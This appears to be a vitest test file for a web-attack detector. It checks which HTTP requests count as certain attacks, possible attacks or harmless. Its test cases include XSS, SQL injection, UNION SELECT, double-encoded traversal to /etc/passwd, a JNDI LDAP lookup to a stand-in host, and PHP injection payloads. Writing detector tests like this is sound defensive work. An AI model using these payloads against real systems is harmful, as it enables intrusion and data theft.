import { expect, it } from 'vitest';
import { readExample } from '../../engine/example.ts';
import { attackIn } from './attack.ts';

function attack(request: string) {
  return readExample({ http: `${request}\n---\nHTTP/1.1 403 Forbidden` }).map(({ request: one }) => attackIn(one))[0];
}

const get = (target: string) => `GET ${target} HTTP/1.1\nHost: www.example.net`;

it.each([
  ['a script tag', get('/search?q=%3Cscript%3Ealert(1)%3C/script%3E'), 'url'],
  ['an encoded quote with a condition', get('/item?id=1%27%20or%201=1'), 'url'],
  ['a selection joined to the query', get('/item?id=1+UNION+SELECT+name+FROM+users'), 'url'],
  ['a path that climbs up, encoded twice', get('/get?file=%252e%252e/%252e%252e/%252e%252e/etc/passwd'), 'url'],
  ['a lookup', get('/?x=$%7Bjndi:ldap://a.example/x%7D'), 'url'],
  [
    'code in a form',
    'POST /comment HTTP/1.1\nHost: www.example.net\nContent-Type: application/x-www-form-urlencoded\n\ntext=%3C%3Fphp+echo',
    'body',
  ],
])('%s is an attack beyond doubt', (_, request, place) => expect(attack(request)).toEqual({ place, plain: true }));

it.each([
  ['a frame', get('/?q=%3Cframe%20src=x%3E'), 'url'],
  ['a quote and two dashes', get('/wiki/Rock%27--n-roll'), 'url'],
])('%s may be an attack', (_, request, place) => expect(attack(request)).toEqual({ place, plain: false }));

it.each([
  ['words about unions and scripts', get('/search?q=select+a+union+script')],
  ['a long harmless query', get(`/search?q=${'boat+'.repeat(2000)}`)],
  ['a percent sign that encodes nothing', get('/search?q=100%25%20%zz')],
])('%s is none', (_, request) => expect(attack(request)).toBeUndefined());
